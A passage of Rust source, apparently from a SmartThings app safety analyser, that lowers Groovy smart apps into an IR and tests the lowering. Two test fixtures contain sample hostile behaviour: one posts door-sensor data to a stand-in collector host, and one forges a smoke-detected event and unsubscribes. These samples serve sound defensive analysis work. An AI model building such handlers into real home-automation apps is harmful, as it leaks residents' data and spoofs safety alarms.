    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "lowering error: {}", self.message)
    }
}

impl std::error::Error for LowerError {}

/// Lowers a parsed [`SmartApp`] into an [`IrApp`].
pub fn lower_app(app: &SmartApp) -> Result<IrApp, LowerError> {
    let mut ctx = Lowerer::new(app);
    let mut handlers = Vec::new();

    for sub in &app.subscriptions {
        let Some(method) = app.script.method(&sub.handler) else {
            // A subscription to a missing handler is a developer error that the
            // SmartThings IDE would reject; skip it but keep translating.
            continue;
        };
        let trigger = match &sub.source {
            SubscriptionSource::DeviceInput(input) => Trigger::Device {
                input: input.clone(),
                attribute: sub.attribute.clone(),
                value: sub.value.clone(),
            },
            SubscriptionSource::Location => match sub.attribute.as_str() {
                "mode" => Trigger::LocationMode { value: sub.value.clone() },
                other => Trigger::LocationEvent { name: other.to_string() },
            },
            SubscriptionSource::App => Trigger::AppTouch,
        };
        handlers.push(IrHandler {
            app: app.name().to_string(),
            name: sub.handler.clone(),
            trigger,
            body: ctx.lower_method_body(method, 0),
        });
    }

    for sched in &app.schedules {
        let Some(method) = app.script.method(&sched.handler) else { continue };
        handlers.push(IrHandler {
            app: app.name().to_string(),
            name: sched.handler.clone(),
            trigger: Trigger::Timer { delay_seconds: sched.delay_seconds },
            body: ctx.lower_method_body(method, 0),
        });
    }

    let inputs = app
        .inputs
        .iter()
        .map(|i| AppInput {
            name: i.name.clone(),
            kind: convert_kind(&i.kind, i.multiple),
            title: i.title.clone(),
            required: i.required,
        })
        .collect();

    Ok(IrApp {
        name: app.name().to_string(),
        description: app.metadata.description.clone(),
        inputs,
        handlers,
        state_vars: ctx.state_vars.into_iter().collect(),
        dynamic_discovery: ctx.dynamic_discovery,
    })
}

fn convert_kind(kind: &InputKind, multiple: bool) -> SettingKind {
    match kind {
        InputKind::Capability(cap) => SettingKind::Device { capability: cap.clone(), multiple },
        InputKind::Number => SettingKind::Number,
        InputKind::Decimal => SettingKind::Decimal,
        InputKind::Bool => SettingKind::Bool,
        InputKind::Text => SettingKind::Text,
        InputKind::Enum(options) => SettingKind::Enum(options.clone()),
        InputKind::Time => SettingKind::Time,
        InputKind::Phone => SettingKind::Phone,
        InputKind::Contact => SettingKind::Contact,
        InputKind::Mode => SettingKind::Mode,
        InputKind::Other(o) => SettingKind::Other(o.clone()),
    }
}

/// Methods that indicate dynamic device discovery (§10.1 of the paper).
const DISCOVERY_APIS: &[&str] =
    &["getChildDevices", "getAllChildDevices", "addChildDevice", "findAllDevices"];

struct Lowerer<'a> {
    app: &'a SmartApp,
    /// Input name → capability name (for device inputs).
    device_inputs: BTreeMap<String, String>,
    /// Non-device setting names.
    setting_inputs: BTreeSet<String>,
    /// `state.*` variables written anywhere in the app.
    state_vars: BTreeSet<String>,
    dynamic_discovery: bool,
    /// When lowering the body of `devices.each { ... }`, the input the
    /// implicit `it` (or a named closure parameter) refers to.
    iteration_bindings: Vec<(String, String)>,
}

impl<'a> Lowerer<'a> {
    fn new(app: &'a SmartApp) -> Self {
        let mut device_inputs = BTreeMap::new();
        let mut setting_inputs = BTreeSet::new();
        for input in &app.inputs {
            match &input.kind {
                InputKind::Capability(cap) => {
                    device_inputs.insert(input.name.clone(), cap.clone());
                }
                _ => {
                    setting_inputs.insert(input.name.clone());
                }
            }
        }
        Lowerer {
            app,
            device_inputs,
            setting_inputs,
            state_vars: BTreeSet::new(),
            dynamic_discovery: false,
            iteration_bindings: Vec::new(),
        }
    }

    fn is_device_input(&self, name: &str) -> bool {
        self.device_inputs.contains_key(name)
    }

    /// Resolves a closure-iteration variable (`it` or a named parameter) to the
    /// device input it ranges over, if any.
    fn iteration_input(&self, var: &str) -> Option<&str> {
        self.iteration_bindings
            .iter()
            .rev()
            .find(|(v, _)| v == var)
            .map(|(_, input)| input.as_str())
    }

    fn lower_method_body(&mut self, method: &MethodDecl, depth: usize) -> Vec<IrStmt> {
        self.lower_block(&method.body, depth)
    }

    fn lower_block(&mut self, block: &Block, depth: usize) -> Vec<IrStmt> {
        let mut out = Vec::new();
        for stmt in &block.stmts {
            out.extend(self.lower_stmt(stmt, depth));
        }
        out
    }

    fn lower_stmt(&mut self, stmt: &Stmt, depth: usize) -> Vec<IrStmt> {
        match stmt {
            Stmt::Expr(expr) => self.lower_expr_stmt(expr, depth),
            Stmt::VarDecl { name, init, .. } => {
                let value =
                    init.as_ref().map(|e| self.lower_expr(e)).unwrap_or(IrExpr::Const(Value::Null));
                vec![IrStmt::AssignLocal { name: name.clone(), value }]
            }
            Stmt::Assign { target, op, value, .. } => self.lower_assign(target, *op, value),
            Stmt::If { cond, then_block, else_block, .. } => {
                let cond = self.lower_expr(cond);
                let then = self.lower_block(then_block, depth);
                let els =
                    else_block.as_ref().map(|b| self.lower_block(b, depth)).unwrap_or_default();
                vec![IrStmt::If { cond, then, els }]
            }
            Stmt::While { cond, body, .. } => {
                let cond = self.lower_expr(cond);
                let body = self.lower_block(body, depth);
                vec![IrStmt::While { cond, body }]
            }
            Stmt::ForIn { var, iterable, body, .. } => {
                // Iterating over a device input becomes a device loop; other
                // iterables are approximated by a single pass with the loop
                // variable bound to the iterable's value.
                if let Some(input) =
                    iterable.as_var().filter(|v| self.is_device_input(v)).map(str::to_string)
                {
                    self.iteration_bindings.push((var.clone(), input.clone()));
                    let body = self.lower_block(body, depth);
                    self.iteration_bindings.pop();
                    vec![IrStmt::ForEachDevice { input, body }]
                } else {
                    let mut out = vec![IrStmt::AssignLocal {
                        name: var.clone(),
                        value: self.lower_expr(iterable),
                    }];
                    out.extend(self.lower_block(body, depth));
                    out
                }
            }
            Stmt::Switch { subject, cases, default, .. } => {
                let subject_ir = self.lower_expr(subject);
                let mut chain: Vec<IrStmt> =
                    default.as_ref().map(|b| self.lower_block(b, depth)).unwrap_or_default();
                for case in cases.iter().rev() {
                    let cond = IrExpr::binary(
                        IrBinOp::Eq,
                        subject_ir.clone(),
                        self.lower_expr(&case.value),
                    );
                    let then = self.lower_block(&case.body, depth);
                    chain = vec![IrStmt::If { cond, then, els: chain }];
                }
                chain
            }
            Stmt::TryCatch { body, .. } => self.lower_block(body, depth),
            Stmt::Return(value, _) => {
                vec![IrStmt::Return(value.as_ref().map(|e| self.lower_expr(e)))]
            }
            Stmt::Break(_) => vec![IrStmt::OpaqueCall { name: "break".into(), args: vec![] }],
            Stmt::Continue(_) => vec![IrStmt::OpaqueCall { name: "continue".into(), args: vec![] }],
        }
    }

    fn lower_assign(&mut self, target: &Expr, op: AssignOp, value: &Expr) -> Vec<IrStmt> {
        let rhs = self.lower_expr(value);
        // `x += e` and friends desugar to `x = x op e`.
        let combined = |current: IrExpr| match op {
            AssignOp::Assign => rhs.clone(),
            AssignOp::AddAssign => IrExpr::binary(IrBinOp::Add, current, rhs.clone()),
            AssignOp::SubAssign => IrExpr::binary(IrBinOp::Sub, current, rhs.clone()),
            AssignOp::MulAssign => IrExpr::binary(IrBinOp::Mul, current, rhs.clone()),
            AssignOp::DivAssign => IrExpr::binary(IrBinOp::Div, current, rhs.clone()),
        };
        match target {
            Expr::Property { object, name, .. } if object.as_var() == Some("state") => {
                self.state_vars.insert(name.clone());
                vec![IrStmt::AssignState {
                    name: name.clone(),
                    value: combined(IrExpr::StateVar(name.clone())),
                }]
            }
            Expr::Property { object, name, .. }
                if object.as_var() == Some("location") && name == "mode" =>
            {
                vec![IrStmt::SetLocationMode(rhs)]
            }
            Expr::Var(name, _) => {
                vec![IrStmt::AssignLocal {
                    name: name.clone(),
                    value: combined(IrExpr::Local(name.clone())),
                }]
            }
            // Anything else (indexed writes, settings writes) is preserved as
            // an opaque call so diagnostics can surface it.
            other => vec![IrStmt::OpaqueCall {
                name: "assign".into(),
                args: vec![self.lower_expr(other), rhs],
            }],
        }
    }

    fn lower_expr_stmt(&mut self, expr: &Expr, depth: usize) -> Vec<IrStmt> {
        match expr {
            Expr::MethodCall { object, name, args, closure, .. } => {
                self.lower_call(object.as_deref(), name, args, closure.as_deref(), depth)
            }
            // A bare expression statement with no side effects is dropped.
            _ => Vec::new(),
        }
    }

    fn lower_call(
        &mut self,
        object: Option<&Expr>,
        name: &str,
        args: &[Arg],
        closure: Option<&Expr>,
        depth: usize,
    ) -> Vec<IrStmt> {
        if DISCOVERY_APIS.contains(&name) {
            self.dynamic_discovery = true;
            return vec![IrStmt::OpaqueCall {
                name: name.to_string(),
                args: self.lower_args(args),
            }];
        }

        // Calls with an explicit receiver.
        if let Some(obj) = object {
            // log.debug / log.info / log.warn / log.error
            if obj.as_var() == Some("log") {
                let msg =
                    args.first().map(|a| self.lower_expr(a.expr())).unwrap_or(IrExpr::str(""));
                return vec![IrStmt::Log(msg)];
            }
            // location.setMode("Away")
            if obj.as_var() == Some("location") && (name == "setMode" || name == "mode") {
                let mode =
                    args.first().map(|a| self.lower_expr(a.expr())).unwrap_or(IrExpr::str(""));
                return vec![IrStmt::SetLocationMode(mode)];
            }
            // Device receiver: `lights.on()`, `outlets.each { ... }`, `lock1.lock()`.
            if let Some(receiver) = obj.as_var() {
                let bound_input = self
                    .iteration_input(receiver)
                    .map(str::to_string)
                    .or_else(|| self.is_device_input(receiver).then(|| receiver.to_string()));
                if let Some(input) = bound_input {
                    return self.lower_device_call(&input, name, args, closure, depth);
                }
            }
            // `settings.lights.on()` style receivers.
            if let Expr::Property { object: inner, name: prop, .. } = obj {
                if inner.as_var() == Some("settings") && self.is_device_input(prop) {
                    let input = prop.clone();
                    return self.lower_device_call(&input, name, args, closure, depth);
                }
            }
            // Unknown receiver — keep it opaque.
            return vec![IrStmt::OpaqueCall {
                name: format!("{}.{name}", describe(obj)),
                args: self.lower_args(args),
            }];
        }

        // Implicit-this calls: SmartThings APIs and app helper methods.
        match name {
            "sendSms" | "sendSmsMessage" => {
                let recipient =
                    args.first().map(|a| self.lower_expr(a.expr())).unwrap_or(IrExpr::str(""));
                let message =
                    args.get(1).map(|a| self.lower_expr(a.expr())).unwrap_or(IrExpr::str(""));
                vec![IrStmt::SendSms { recipient, message }]
            }
            "sendPush"
            | "sendPushMessage"
            | "sendNotification"
            | "sendNotificationToContacts"
            | "sendNotificationEvent" => {
                let message =
                    args.first().map(|a| self.lower_expr(a.expr())).unwrap_or(IrExpr::str(""));
                vec![IrStmt::SendPush { message }]
            }
            "httpPost" | "httpPostJson" | "httpPutJson" | "httpPut" | "asynchttp_v1" => {
                let url = self.http_url(args);
                let payload = args.get(1).map(|a| self.lower_expr(a.expr()));
                vec![IrStmt::HttpRequest { method: HttpMethod::Post, url, payload }]
            }
            "httpGet" | "httpGetJson" => {
                let url = self.http_url(args);
                vec![IrStmt::HttpRequest { method: HttpMethod::Get, url, payload: None }]
            }
            "sendEvent" | "createEvent" => {
                let (attribute, value) = self.event_payload(args);
                vec![IrStmt::SendEvent { attribute, value }]
            }
            "setLocationMode" => {
                let mode =
                    args.first().map(|a| self.lower_expr(a.expr())).unwrap_or(IrExpr::str(""));
                vec![IrStmt::SetLocationMode(mode)]
            }
            "unsubscribe" => vec![IrStmt::Unsubscribe],
            "unschedule" => vec![IrStmt::Unschedule],
            "runIn" | "runOnce" => {
                let delay = args.first().map(|a| self.lower_expr(a.expr()));
                let handler = args
                    .get(1)
                    .and_then(|a| match a.expr() {
                        Expr::Var(h, _) => Some(h.clone()),
                        Expr::Str(h, _) => Some(h.clone()),
                        _ => None,
                    })
                    .unwrap_or_default();
                vec![IrStmt::Schedule { handler, delay_seconds: delay }]
            }
            "schedule" => {
                let handler = args
                    .get(1)
                    .and_then(|a| match a.expr() {
                        Expr::Var(h, _) => Some(h.clone()),
                        Expr::Str(h, _) => Some(h.clone()),
                        _ => None,
                    })
                    .unwrap_or_default();
                vec![IrStmt::Schedule { handler, delay_seconds: None }]
            }
            n if n.starts_with("runEvery") => {
                let handler = args
                    .first()
                    .and_then(|a| a.expr().as_var().map(str::to_string))
                    .unwrap_or_default();
                vec![IrStmt::Schedule { handler, delay_seconds: None }]
            }
            // `subscribe` calls in lifecycle methods were already extracted;
            // when they appear inside handlers they do not affect the physical
            // state and are dropped.
            "subscribe" | "initialize" if name == "subscribe" => Vec::new(),
            _ => {
                // Helper method defined by the app: inline it.
                if let Some(method) = self.app.script.method(name) {
                    if depth < MAX_INLINE_DEPTH {
                        return self.lower_method_body(&method.clone(), depth + 1);
                    }
                }
                vec![IrStmt::OpaqueCall { name: name.to_string(), args: self.lower_args(args) }]
            }
        }
    }

    /// Lowers a call whose receiver is (or iterates over) a device input.
    fn lower_device_call(
        &mut self,
        input: &str,
        name: &str,
        args: &[Arg],
        closure: Option<&Expr>,
        depth: usize,
    ) -> Vec<IrStmt> {
        match name {
            "each" | "eachWithIndex" => {
                if let Some(Expr::Closure { params, body, .. }) = closure {
                    let var =
                        params.first().map(|p| p.name.clone()).unwrap_or_else(|| "it".to_string());
                    self.iteration_bindings.push((var, input.to_string()));
                    let lowered = self.lower_block(body, depth);
                    self.iteration_bindings.pop();
                    return vec![IrStmt::ForEachDevice { input: input.to_string(), body: lowered }];
                }
                Vec::new()
            }
            "findAll" | "find" | "collect" => {
                // In statement position these are only useful for their side
                // effects, which smart apps do not rely on; drop them.
                Vec::new()
            }
            _ => vec![IrStmt::DeviceCommand {
                input: input.to_string(),
                command: name.to_string(),
                args: self.lower_args(args),
            }],
        }
    }

    fn lower_args(&mut self, args: &[Arg]) -> Vec<IrExpr> {
        args.iter().map(|a| self.lower_expr(a.expr())).collect()
    }

    fn http_url(&mut self, args: &[Arg]) -> IrExpr {
        // `httpPost(uri, body)` or `httpPost(uri: "...", body: ...)`.
        for arg in args {
            match arg {
                Arg::Named(key, value) if key == "uri" || key == "url" => {
                    return self.lower_expr(value)
                }
                Arg::Positional(Expr::MapLit(entries, _)) => {
                    for (k, v) in entries {
                        if k == "uri" || k == "url" {
                            return self.lower_expr(v);
                        }
                    }
                }
                _ => {}
            }
        }
        args.first().map(|a| self.lower_expr(a.expr())).unwrap_or(IrExpr::str(""))
    }

    fn event_payload(&mut self, args: &[Arg]) -> (String, IrExpr) {
        let mut attribute = String::new();
        let mut value = IrExpr::Const(Value::Null);
        for arg in args {
            match arg {
                Arg::Named(key, expr) => match key.as_str() {
                    "name" => attribute = expr.as_str().unwrap_or("").to_string(),
                    "value" => value = self.lower_expr(expr),
                    _ => {}
                },
                Arg::Positional(Expr::MapLit(entries, _)) => {
                    for (k, v) in entries {
                        match k.as_str() {
                            "name" => attribute = v.as_str().unwrap_or("").to_string(),
                            "value" => value = self.lower_expr(v),
                            _ => {}
                        }
                    }
                }
                _ => {}
            }
        }
        (attribute, value)
    }

    fn lower_expr(&mut self, expr: &Expr) -> IrExpr {
        match expr {
            Expr::Int(v, _) => IrExpr::Const(Value::Int(*v)),
            Expr::Decimal(v, _) => IrExpr::Const(Value::Decimal(*v)),
            Expr::Str(s, _) => IrExpr::Const(Value::Str(s.clone())),
            Expr::Bool(b, _) => IrExpr::Const(Value::Bool(*b)),
            Expr::Null(_) => IrExpr::Const(Value::Null),
            Expr::GString(parts, _) => IrExpr::Concat(
                parts
                    .iter()
                    .map(|p| match p {
                        GStringPart::Text(t) => IrExpr::str(t.clone()),
                        GStringPart::Interp(e) => self.lower_expr(e),
                    })
                    .collect(),
            ),
            Expr::Var(name, _) => self.lower_var(name),
            Expr::Property { object, name, .. } => self.lower_property(object, name),
            Expr::Index { object, .. } => {
                // Indexing a device list reads from the first device; the model
                // treats all devices bound to an input uniformly.
                self.lower_expr(object)
            }
            Expr::MethodCall { object, name, args, closure, .. } => {
                self.lower_call_expr(object.as_deref(), name, args, closure.as_deref())
            }
            Expr::Binary { op, lhs, rhs, .. } => {
                let l = self.lower_expr(lhs);
                let r = self.lower_expr(rhs);
                match bin_op(*op) {
                    Some(op) => IrExpr::binary(op, l, r),
                    None => IrExpr::Opaque { name: format!("op{op}"), args: vec![l, r] },
                }
            }
            Expr::Unary { op, operand, .. } => {
                let inner = self.lower_expr(operand);
                match op {
                    UnOp::Not => IrExpr::Not(Box::new(inner)),
                    UnOp::Neg => IrExpr::Neg(Box::new(inner)),
                }
            }
            Expr::Ternary { cond, then, els, .. } => IrExpr::Ternary {
                cond: Box::new(self.lower_expr(cond)),
                then: Box::new(self.lower_expr(then)),
                els: Box::new(self.lower_expr(els)),
            },
            Expr::Elvis { value, fallback, .. } => {
                let v = self.lower_expr(value);
                IrExpr::Ternary {
                    cond: Box::new(v.clone()),
                    then: Box::new(v),
                    els: Box::new(self.lower_expr(fallback)),
                }
            }
            Expr::ListLit(items, _) => {
                IrExpr::ListOf(items.iter().map(|e| self.lower_expr(e)).collect())
            }
            Expr::MapLit(entries, _) => {
                IrExpr::ListOf(entries.iter().map(|(_, e)| self.lower_expr(e)).collect())
            }
            Expr::Range { from, to, .. } => {
                IrExpr::ListOf(vec![self.lower_expr(from), self.lower_expr(to)])
            }
            Expr::Closure { .. } => IrExpr::Opaque { name: "closure".into(), args: vec![] },
            Expr::Cast { expr, .. } => self.lower_expr(expr),
            Expr::New { ty, args, .. } => IrExpr::Opaque {
                name: format!("new {}", ty.name),
                args: args.iter().map(|a| self.lower_expr(a.expr())).collect(),
            },
        }
    }

    fn lower_var(&mut self, name: &str) -> IrExpr {
        if name == "evt" || name == "event" {
            return IrExpr::EventField(EventField::Value);
        }
        if let Some(input) = self.iteration_input(name) {
            // A bare iteration variable in boolean position asks "is there a
            // device"; reading its primary attribute is the closest match and
            // is refined by `.currentX` property access where it matters.
            return IrExpr::Setting(input.to_string());
        }
        if self.is_device_input(name) || self.setting_inputs.contains(name) {
            return IrExpr::Setting(name.to_string());
        }
        match name {
            "now" => IrExpr::Time,
            _ => IrExpr::Local(name.to_string()),
        }
    }

    fn lower_property(&mut self, object: &Expr, name: &str) -> IrExpr {
        // evt.<field>
        if object.as_var() == Some("evt") || object.as_var() == Some("event") {
            return IrExpr::EventField(event_field(name));
        }
        // location.mode / location.currentMode
        if object.as_var() == Some("location") && (name == "mode" || name == "currentMode") {
            return IrExpr::LocationMode;
        }
        // state.<var>
        if object.as_var() == Some("state") || object.as_var() == Some("atomicState") {
            return IrExpr::StateVar(name.to_string());
        }
        // settings.<input>
        if object.as_var() == Some("settings") {
            if self.is_device_input(name) || self.setting_inputs.contains(name) {
                return IrExpr::Setting(name.to_string());
            }
            return IrExpr::Setting(name.to_string());
        }
        // <deviceInput>.currentXyz or <iterationVar>.currentXyz
        if let Some(receiver) = object.as_var() {
            let input = self
                .iteration_input(receiver)
                .map(str::to_string)
                .or_else(|| self.is_device_input(receiver).then(|| receiver.to_string()));
            if let Some(input) = input {
                if let Some(attr) = name.strip_prefix("current") {
                    return IrExpr::DeviceAttr { input, attribute: lower_first(attr) };
                }
                if let Some(attr) = name.strip_prefix("latest") {
                    return IrExpr::DeviceAttr { input, attribute: lower_first(attr) };
                }
                // `device.displayName`, `device.id`, `device.label`.
                if matches!(name, "displayName" | "label" | "id" | "name") {
                    return IrExpr::Const(Value::Str(input));
                }
                // `device.temperatureState` style reads fall back to the
                // attribute of the same name.
                return IrExpr::DeviceAttr { input, attribute: name.to_string() };
            }
        }
        // evt.device.<something> — approximate with the event's device id.
        if let Expr::Property { object: inner, name: prop, .. } = object {
            if inner.as_var() == Some("evt") && prop == "device" {
                return IrExpr::EventField(EventField::DeviceId);
            }
        }
        IrExpr::Opaque { name: format!("{}.{name}", describe(object)), args: vec![] }
    }

    fn lower_call_expr(
        &mut self,
        object: Option<&Expr>,
        name: &str,
        args: &[Arg],
        closure: Option<&Expr>,
    ) -> IrExpr {
        if DISCOVERY_APIS.contains(&name) {
            self.dynamic_discovery = true;
            return IrExpr::Opaque { name: name.to_string(), args: self.lower_args(args) };
        }
        if let Some(obj) = object {
            let receiver_input = obj.as_var().and_then(|v| {
                self.iteration_input(v)
                    .map(str::to_string)
                    .or_else(|| self.is_device_input(v).then(|| v.to_string()))
            });
            if let Some(input) = receiver_input {
                match name {
                    "currentValue" | "latestValue" | "currentState" | "latestState" => {
                        let attribute = args
                            .first()
                            .and_then(|a| a.expr().as_str())
                            .unwrap_or("value")
                            .to_string();
                        return IrExpr::DeviceAttr { input, attribute };
                    }
                    "any" | "every" | "count" | "find" | "findAll" => {
                        if let Some(q) = self.quantified_query(&input, name, closure) {
                            return q;
                        }
                    }
                    _ => {}
                }
                return IrExpr::Opaque {
                    name: format!("{input}.{name}"),
                    args: self.lower_args(args),
                };
            }
            // evt.isPhysical(), evt.integerValue(), value coercions.
            if obj.as_var() == Some("evt") {
                return IrExpr::EventField(event_field(name));
            }
            // String/number coercions are identity in the IR value domain.
            if matches!(
                name,
                "toInteger"
                    | "toDouble"
                    | "toFloat"
                    | "toString"
                    | "toBigDecimal"
                    | "trim"
                    | "toLowerCase"
                    | "toUpperCase"
            ) {
                return self.lower_expr(obj);
            }
            // `list.contains(x)` becomes `x in list`.
            if name == "contains" {
                let needle = args
                    .first()
                    .map(|a| self.lower_expr(a.expr()))
                    .unwrap_or(IrExpr::Const(Value::Null));
                return IrExpr::binary(IrBinOp::In, needle, self.lower_expr(obj));
            }
            return IrExpr::Opaque {
                name: format!("{}.{name}", describe(obj)),
                args: self.lower_args(args),
            };
        }
        match name {
            "now" => IrExpr::Time,
            _ => {
                // Expression-position helper call: inline trivially when the
                // helper is a single `return expr` with no parameters.
                if let Some(method) = self.app.script.method(name) {
                    if method.params.is_empty() && method.body.stmts.len() == 1 {
                        if let Stmt::Return(Some(e), _) = &method.body.stmts[0] {
                            return self.lower_expr(&e.clone());
                        }
                        if let Stmt::Expr(e) = &method.body.stmts[0] {
                            return self.lower_expr(&e.clone());
                        }
                    }
                }
                IrExpr::Opaque { name: name.to_string(), args: self.lower_args(args) }
            }
        }
    }

    /// Lowers `devices.any { it.currentX == v }` and friends into a
    /// [`IrExpr::DeviceQuery`].
    fn quantified_query(
        &mut self,
        input: &str,
        name: &str,
        closure: Option<&Expr>,
    ) -> Option<IrExpr> {
        let Expr::Closure { params, body, .. } = closure? else { return None };
        let var = params.first().map(|p| p.name.clone()).unwrap_or_else(|| "it".to_string());
        // The closure must be a single comparison of `it.currentX` to a value.
        let stmt = body.stmts.first()?;
        let cmp = match stmt {
            Stmt::Expr(e) => e,
            Stmt::Return(Some(e), _) => e,
            _ => return None,
        };
        let Expr::Binary { op, lhs, rhs, .. } = cmp else { return None };
        let (attr_side, value_side) = match (&**lhs, &**rhs) {
            (Expr::Property { object, name: attr, .. }, other)
                if object.as_var() == Some(var.as_str()) =>
            {
                (attr.clone(), other)
            }
            (other, Expr::Property { object, name: attr, .. })
                if object.as_var() == Some(var.as_str()) =>
            {
                (attr.clone(), other)
            }
            _ => return None,
        };
        let attribute =
            attr_side.strip_prefix("current").map(lower_first).unwrap_or(attr_side.clone());
        let value = Box::new(self.lower_expr(value_side));
        let quantifier = match name {
            "any" | "find" | "findAll" => Quantifier::Any,
            "every" => Quantifier::All,
            "count" => Quantifier::Count,
            _ => return None,
        };
        let query = IrExpr::DeviceQuery { input: input.to_string(), attribute, value, quantifier };
        // A negated comparison (`!=`) wraps the query.
        match op {
            BinOp::Eq => Some(query),
            BinOp::NotEq => Some(IrExpr::Not(Box::new(query))),
            _ => None,
        }
    }
}

fn bin_op(op: BinOp) -> Option<IrBinOp> {
    Some(match op {
        BinOp::Add => IrBinOp::Add,
        BinOp::Sub => IrBinOp::Sub,
        BinOp::Mul => IrBinOp::Mul,
        BinOp::Div => IrBinOp::Div,
        BinOp::Mod => IrBinOp::Mod,
        BinOp::Eq => IrBinOp::Eq,
        BinOp::NotEq => IrBinOp::NotEq,
        BinOp::Lt => IrBinOp::Lt,
        BinOp::Le => IrBinOp::Le,
        BinOp::Gt => IrBinOp::Gt,
        BinOp::Ge => IrBinOp::Ge,
        BinOp::And => IrBinOp::And,
        BinOp::Or => IrBinOp::Or,
        BinOp::In => IrBinOp::In,
        BinOp::Compare => return None,
    })
}

fn event_field(name: &str) -> EventField {
    match name {
        "value" | "stringValue" => EventField::Value,
        "doubleValue" | "floatValue" | "integerValue" | "longValue" | "numberValue"
        | "numericValue" => EventField::NumericValue,
        "name" => EventField::Name,
        "deviceId" | "device" => EventField::DeviceId,
        "displayName" => EventField::DisplayName,
        "isPhysical" | "physical" => EventField::IsPhysical,
        "date" | "isoDate" | "dateValue" => EventField::Date,
        _ => EventField::Value,
    }
}

fn lower_first(s: &str) -> String {
    let mut chars = s.chars();
    match chars.next() {
        Some(c) => c.to_lowercase().collect::<String>() + chars.as_str(),
        None => String::new(),
    }
}

fn describe(expr: &Expr) -> String {
    match expr {
        Expr::Var(name, _) => name.clone(),
        Expr::Property { object, name, .. } => format!("{}.{name}", describe(object)),
        _ => "<expr>".to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use iotsan_groovy::SmartApp;

    fn lower(src: &str) -> IrApp {
        let app = SmartApp::parse(src).unwrap();
        lower_app(&app).unwrap()
    }

    const BRIGHTEN: &str = r#"
definition(name: "Brighten Dark Places", namespace: "st", author: "a", description: "d")
preferences {
    section("When the door opens...") { input "contact1", "capability.contactSensor", title: "Where?" }
    section("Light level") { input "lightSensor", "capability.illuminanceMeasurement", title: "Lux?" }
    section("Turn on...") { input "switches", "capability.switch", multiple: true }
}
def installed() {
    subscribe(contact1, "contact.open", contactOpenHandler)
}
def contactOpenHandler(evt) {
    if (lightSensor.currentIlluminance < 30) {
        switches.on()
    }
}
"#;

    #[test]
    fn lowers_device_trigger_and_command() {
        let app = lower(BRIGHTEN);
        assert_eq!(app.name, "Brighten Dark Places");
        assert_eq!(app.handlers.len(), 1);
        let h = &app.handlers[0];
        assert_eq!(
            h.trigger,
            Trigger::Device {
                input: "contact1".into(),
                attribute: "contact".into(),
                value: Some("open".into())
            }
        );
        assert_eq!(h.device_commands(), vec![("switches".to_string(), "on".to_string())]);
        assert_eq!(h.device_reads(), vec![("lightSensor".to_string(), "illuminance".to_string())]);
    }

    #[test]
    fn lowers_if_else_into_branches() {
        let src = r#"
definition(name: "Let There Be Dark!", namespace: "st", author: "a", description: "d")
preferences {
    section("s") { input "contact1", "capability.contactSensor" }
    section("s") { input "switches", "capability.switch", multiple: true }
}
def installed() { subscribe(contact1, "contact", contactHandler) }
def contactHandler(evt) {
    if (evt.value == "open") {
        switches.on()
    } else {
        switches.off()
    }
}
"#;
        let app = lower(src);
        let h = &app.handlers[0];
        let IrStmt::If { cond, then, els } = &h.body[0] else { panic!("expected if") };
        assert!(cond.reads_event());
        assert!(matches!(then[0], IrStmt::DeviceCommand { ref command, .. } if command == "on"));
        assert!(matches!(els[0], IrStmt::DeviceCommand { ref command, .. } if command == "off"));
    }

    #[test]
    fn lowers_each_closure_to_foreach() {
        let src = r#"
definition(name: "Big Turn Off", namespace: "st", author: "a", description: "d")
preferences { section("s") { input "switches", "capability.switch", multiple: true } }
def installed() { subscribe(app, "touch", appTouch) }
def appTouch(evt) {
    switches.each { it.off() }
}
"#;
        let app = lower(src);
        let h = &app.handlers[0];
        assert_eq!(h.trigger, Trigger::AppTouch);
        let IrStmt::ForEachDevice { input, body } = &h.body[0] else { panic!() };
        assert_eq!(input, "switches");
        assert!(matches!(body[0], IrStmt::DeviceCommand { ref command, .. } if command == "off"));
    }

    #[test]
    fn lowers_location_mode_subscription_and_set() {
        let src = r#"
definition(name: "Auto Mode Change", namespace: "st", author: "a", description: "d")
preferences { section("s") { input "people", "capability.presenceSensor", multiple: true } }
def installed() { subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    if (evt.value == "not present") {
        setLocationMode("Away")
    } else {
        setLocationMode("Home")
    }
}
"#;
        let app = lower(src);
        let h = &app.handlers[0];
        assert!(h.sets_location_mode());
    }

    #[test]
    fn lowers_messaging_and_network() {
        let src = r#"
definition(name: "Notifier", namespace: "st", author: "a", description: "d")
preferences {
    section("s") { input "door", "capability.contactSensor" }
    section("s") { input "phone", "phone" }
}
def installed() { subscribe(door, "contact.open", openHandler) }
def openHandler(evt) {
    sendSms(phone, "The door is open")
    sendPush("The door is open")
    httpPost("http://collector.example.com/data", evt.value)
}
"#;
        let app = lower(src);
        let h = &app.handlers[0];
        assert!(matches!(h.body[0], IrStmt::SendSms { .. }));
        assert!(matches!(h.body[1], IrStmt::SendPush { .. }));
        assert!(h.uses_network());
    }

    #[test]
    fn lowers_fake_event_and_unsubscribe() {
        let src = r#"
definition(name: "Sneaky", namespace: "st", author: "a", description: "d")
preferences { section("s") { input "smoke", "capability.smokeDetector" } }
def installed() { subscribe(smoke, "smoke", smokeHandler) }
def smokeHandler(evt) {
    sendEvent(name: "smoke", value: "detected")
    unsubscribe()
}
"#;
        let app = lower(src);
        let h = &app.handlers[0];
        assert!(
            matches!(h.body[0], IrStmt::SendEvent { ref attribute, .. } if attribute == "smoke")
        );
        assert!(matches!(h.body[1], IrStmt::Unsubscribe));
        assert!(h.uses_sensitive_command());
    }

    #[test]
    fn inlines_helper_methods() {
        let src = r#"
definition(name: "Helper", namespace: "st", author: "a", description: "d")
preferences { section("s") { input "switches", "capability.switch", multiple: true } }
def installed() { subscribe(app, "touch", appTouch) }
def appTouch(evt) {
    turnAllOn()
}
def turnAllOn() {
    switches.on()
}
"#;
        let app = lower(src);
        let h = &app.handlers[0];
        assert_eq!(h.device_commands(), vec![("switches".to_string(), "on".to_string())]);
    }

    #[test]
    fn recursion_becomes_opaque_not_infinite() {
        let src = r#"
definition(name: "Loopy", namespace: "st", author: "a", description: "d")
preferences { section("s") { input "switches", "capability.switch" } }
def installed() { subscribe(app, "touch", appTouch) }
def appTouch(evt) { ping() }
def ping() { pong() }
def pong() { ping() }
"#;
        let app = lower(src);
        let mut opaque = 0;
        for s in &app.handlers[0].body {
            s.walk(&mut |s| {
                if matches!(s, IrStmt::OpaqueCall { .. }) {
                    opaque += 1;
                }
            });
        }
